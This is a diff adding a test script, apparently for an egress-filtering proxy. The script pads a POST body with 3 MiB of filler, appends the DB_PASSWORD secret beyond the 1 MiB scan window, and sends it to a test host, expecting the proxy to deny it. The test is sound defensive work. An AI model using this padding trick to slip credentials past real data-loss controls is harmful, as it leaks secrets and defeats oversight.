@@ -1,0 +1,15 @@
+# S4: held secret placed past max_body_scan (1 MiB) in a plain POST body: the unscanned rest must not leave (HTTPS, h1 and h2)
+# expect: fail
+# audit: sidecar=egress decision=deny host=echo.test
+# audit-min: 2
+# upstream-must-not-see: DB_PASSWORD
+# host-check: echo-untouched
+# 3 MiB of filler, then the secret: well beyond the scanned prefix (the
+# frame that crosses the 1 MiB mark is still scanned, so go far past it).
+f=/tmp/s4-17.body
+head -c 3145728 /dev/zero | tr '\0' 'a' > "$f"
+printf '\np=%s\n' "$DB_PASSWORD" >> "$f"
+h1h2 -H 'Content-Type: text/plain' --data-binary "@$f" https://echo.test/allowed/big
+rc=$?
+rm -f "$f"
+exit $rc
